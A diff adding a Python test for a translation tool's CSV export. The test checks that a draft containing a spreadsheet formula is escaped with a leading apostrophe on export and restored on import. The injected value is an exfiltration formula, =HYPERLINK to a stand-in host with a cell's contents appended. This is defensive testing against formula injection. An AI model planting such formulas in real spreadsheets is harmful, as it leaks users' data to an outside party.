@@ -182,6 +182,25 @@ def test_a_sheet_comes_back_from_a_spreadsheet(book, amts):
     assert LINK not in taken
 
 
+def test_a_draft_that_is_a_formula_comes_back_as_it_was(book, amts):
+    formula = '=HYPERLINK("http://x.example/?"&A1)'
+    path = book.src / MACHINE
+    quoted = formula.replace('"', '\\"')
+    text = path.read_text("utf-8").replace("译Rinse the", f"{quoted} Rinse the")
+    path.write_text(text, "utf-8")
+    sheet = out(amts, book, "csv")
+    rows = list(csv.DictReader(io.StringIO(sheet.read_bytes().decode("utf-8-sig"))))
+    (row,) = (row for row in rows if row["source"] == CLEAN)
+    assert row["draft"] == f"'{formula} Rinse the filter with care."
+    row["approved"] = "x"
+    with sheet.open("w", encoding="utf-8-sig", newline="") as stream:
+        writer = csv.DictWriter(stream, list(row))
+        writer.writeheader()
+        writer.writerows(rows)
+    assert take(amts, book, sheet).code == 0
+    assert human(book)[CLEAN] == f"{formula} Rinse the filter with care."
+
+
 def test_weblate_reads_what_is_written_for_it(book, amts):
     folder = out(amts, book, "weblate")
     assert sorted(p.name for p in folder.rglob("*")) == ["coffee.po", "memory.tmx"]
